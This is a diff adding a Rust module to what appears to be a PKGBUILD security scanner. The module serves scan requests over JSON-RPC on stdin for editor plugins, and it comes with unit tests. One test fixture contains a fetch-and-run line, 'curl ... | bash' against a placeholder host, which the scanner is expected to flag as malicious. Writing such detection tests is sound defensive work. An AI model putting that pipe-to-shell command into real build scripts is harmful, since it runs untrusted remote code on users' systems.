@@ -0,0 +1,132 @@
+use crate::coordinator;
+use crate::shared::config::Config;
+use serde_json::{json, Value};
+use std::io::{BufRead, Write};
+
+// JSON-RPC 2.0 error codes.
+const PARSE_ERROR: i64 = -32700;
+const INVALID_REQUEST: i64 = -32600;
+const METHOD_NOT_FOUND: i64 = -32601;
+const INVALID_PARAMS: i64 = -32602;
+const INTERNAL_ERROR: i64 = -32603;
+
+/// Serve JSON-RPC 2.0 requests on stdin, one JSON object per line, answering each on
+/// one line of stdout. Editor plugins keep one process running and send the buffer on
+/// every change, instead of spawning `traur scan` per keystroke.
+///
+/// Methods:
+/// - `scan_pkgbuild` `{"content": "...", "name"?: "...", "install_script"?: "..."}`:
+///   scans without network access and returns the `ScanResult` as in `--format json`.
+/// - `shutdown`: replies `null` and exits.
+///
+/// Requests without an `id` are notifications and get no response.
+pub fn run(config: &Config) -> i32 {
+    let stdin = std::io::stdin().lock();
+    let mut stdout = std::io::stdout().lock();
+    for line in stdin.lines() {
+        let Ok(line) = line else {
+            break;
+        };
+        if line.trim().is_empty() {
+            continue;
+        }
+        let (response, stop) = handle(&line, config);
+        if let Some(response) = response
+            && (writeln!(stdout, "{response}").is_err() || stdout.flush().is_err())
+        {
+            return 1;
+        }
+        if stop {
+            break;
+        }
+    }
+    0
+}
+
+/// Handle one request line. Returns the response, if one is due, and whether to stop.
+fn handle(line: &str, config: &Config) -> (Option<Value>, bool) {
+    let request: Value = match serde_json::from_str(line) {
+        Ok(v) => v,
+        Err(e) => return (Some(error(Value::Null, PARSE_ERROR, &format!("Parse error: {e}"))), false),
+    };
+    let id = request.get("id").cloned();
+    let Some(method) = request.get("method").and_then(Value::as_str) else {
+        return (Some(error(id.unwrap_or(Value::Null), INVALID_REQUEST, "Missing method")), false);
+    };
+
+    let (outcome, stop) = match method {
+        "scan_pkgbuild" => (scan_pkgbuild(request.get("params"), config), false),
+        "shutdown" => (Ok(Value::Null), true),
+        _ => (Err((METHOD_NOT_FOUND, format!("Unknown method: {method}"))), false),
+    };
+
+    let response = id.map(|id| match outcome {
+        Ok(result) => json!({"jsonrpc": "2.0", "id": id, "result": result}),
+        Err((code, message)) => error(id, code, &message),
+    });
+    (response, stop)
+}
+
+fn scan_pkgbuild(params: Option<&Value>, config: &Config) -> Result<Value, (i64, String)> {
+    let params = params.unwrap_or(&Value::Null);
+    let Some(content) = params.get("content").and_then(Value::as_str) else {
+        return Err((INVALID_PARAMS, "params.content (PKGBUILD text) is required".to_string()));
+    };
+    let name = params.get("name").and_then(Value::as_str).unwrap_or("local");
+    let install_script = params.get("install_script").and_then(Value::as_str);
+
+    let result = coordinator::scan_sources(name, content, install_script, config);
+    serde_json::to_value(&result).map_err(|e| (INTERNAL_ERROR, e.to_string()))
+}
+
+fn error(id: Value, code: i64, message: &str) -> Value {
+    json!({"jsonrpc": "2.0", "id": id, "error": {"code": code, "message": message}})
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn call(line: &str) -> (Option<Value>, bool) {
+        handle(line, &Config::default())
+    }
+
+    #[test]
+    fn scan_pkgbuild_returns_scan_result() {
+        let request = json!({
+            "jsonrpc": "2.0",
+            "id": 7,
+            "method": "scan_pkgbuild",
+            "params": {"name": "foo", "content": "pkgname=foo\nbuild() {\n  curl -s https://x.example/a | bash\n}\n"},
+        });
+        let (response, stop) = call(&request.to_string());
+        let response = response.unwrap();
+        assert!(!stop);
+        assert_eq!(response["id"], 7);
+        assert_eq!(response["result"]["package"], "foo");
+        assert_eq!(response["result"]["tier"], "Malicious");
+        assert!(response["result"]["signals"].as_array().unwrap().iter().any(|s| s["id"] == "P-CURL-PIPE"));
+    }
+
+    #[test]
+    fn errors_and_notifications() {
+        let (response, _) = call("{not json");
+        assert_eq!(response.unwrap()["error"]["code"], PARSE_ERROR);
+
+        let (response, _) = call(r#"{"jsonrpc":"2.0","id":1,"method":"frobnicate"}"#);
+        assert_eq!(response.unwrap()["error"]["code"], METHOD_NOT_FOUND);
+
+        let (response, _) = call(r#"{"jsonrpc":"2.0","id":"a","method":"scan_pkgbuild","params":{}}"#);
+        let response = response.unwrap();
+        assert_eq!(response["id"], "a");
+        assert_eq!(response["error"]["code"], INVALID_PARAMS);
+
+        // No id: a notification, answered with nothing.
+        let (response, _) = call(r#"{"jsonrpc":"2.0","method":"scan_pkgbuild","params":{"content":"pkgname=foo"}}"#);
+        assert!(response.is_none());
+
+        let (response, stop) = call(r#"{"jsonrpc":"2.0","id":2,"method":"shutdown"}"#);
+        assert!(stop);
+        assert_eq!(response.unwrap()["result"], Value::Null);
+    }
+}